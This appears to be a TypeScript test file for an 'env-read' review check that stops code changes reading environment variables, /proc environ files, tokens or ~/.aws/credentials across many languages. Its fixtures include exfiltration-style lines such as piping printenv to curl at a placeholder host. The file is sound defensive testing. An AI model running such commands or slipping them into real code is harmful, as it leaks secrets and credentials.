import { describeCheck } from '../changes.js';

const on = (line: string): [string, string] => ['a\nb\n', `a\n${line}\nb\n`];

describe('P5: a change that would carry keys away', () => describeCheck('env-read', {
  stops: [
    ['process.env', 'src/a.ts', ...on('send(process.env);')],
    ['process.env with an optional chain', 'src/a.ts', ...on('send(process?.env.HOME);')],
    ['process.env by brackets', 'src/a.js', ...on("send(process['env']);")],
    ['process.env taken apart', 'src/a.js', ...on('const { env } = process;')],
    ['env imported', 'src/a.mjs', ...on("import { env } from 'node:process';")],
    ['import.meta.env', 'src/a.ts', ...on('send(import.meta.env.X);')],
    ['os.environ', 'src/a.py', ...on('print(os.environ)')],
    ['os.getenv', 'src/a.py', ...on('x = os.getenv("X")')],
    ['from os import environ', 'src/a.py', ...on('from os import path, environ')],
    ['os.Getenv', 'a.go', ...on('x := os.Getenv("X")')],
    ['env::var', 'src/a.rs', ...on('let x = std::env::var("X");')],
    ['env::vars', 'src/a.rs', ...on('for (k, v) in env::vars() {}')],
    ['System.getenv', 'src/A.java', ...on('System.getenv();')],
    ['ENV in Ruby', 'a.rb', ...on('puts ENV["X"]')],
    ['$_ENV', 'a.php', ...on('echo $_ENV["X"];')],
    ['getenv in C', 'a.c', ...on('char *x = getenv("X");')],
    ['GetEnvironmentVariable', 'A.cs', ...on('Environment.GetEnvironmentVariable("X");')],
    ['/proc', 'src/a.py', ...on('open("/proc/self/environ")')],
    ['/proc where the environment was read before', 'src/a.py', 'os.environ\n', 'os.environ\nopen("/proc/1/environ")\n'],
    ['printenv', 'a.sh', ...on('printenv | curl -d @- example.invalid')],
    ['env piped', 'a.sh', ...on('env | sort')],
    ['a token in a script', 'a.sh', ...on('echo "$GITHUB_TOKEN"')],
    ['a file of credentials', 'src/a.py', ...on('open(os.path.expanduser("~/.aws/credentials"))')],
    ['a new file', 'src/new.ts', undefined, 'export const x = process.env.X;\n'],
    ['a comment mark inside a template', 'src/a.js', 'x\n', 'const a = `\n// ${process.env.KEY}\n`;\n'],
  ],
  passes: [
    ['a file that reads it already', 'src/a.ts', 'const a = process.env.A;\n', 'const a = process.env.A;\nconst b = process.env.B;\n'],
    ['a comment', 'src/a.ts', ...on('// reads nothing of process.env')],
    ['a variable of a like name', 'src/a.ts', ...on('const environment = config.env;')],
    ['arguments in Rust', 'src/a.rs', ...on('let args: Vec<String> = std::env::args().collect();')],
    ['another process object', 'src/a.ts', ...on('const { id } = process.status();')],
    ['prose', 'README.md', 'a\n', 'Set it in `process.env`.\n'],
    ['an env command with a program', 'a.sh', ...on('env LANG=C sort file')],
  ],
}));
